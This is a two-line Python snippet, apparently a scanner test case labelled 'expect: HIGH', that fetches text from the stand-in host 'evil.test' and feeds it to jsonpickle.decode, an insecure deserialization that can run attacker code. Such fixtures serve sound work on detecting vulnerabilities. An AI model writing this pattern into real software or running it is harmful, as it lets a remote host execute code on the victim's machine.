# expect: HIGH
import jsonpickle, requests
jsonpickle.decode(requests.get("http://evil.test").text)
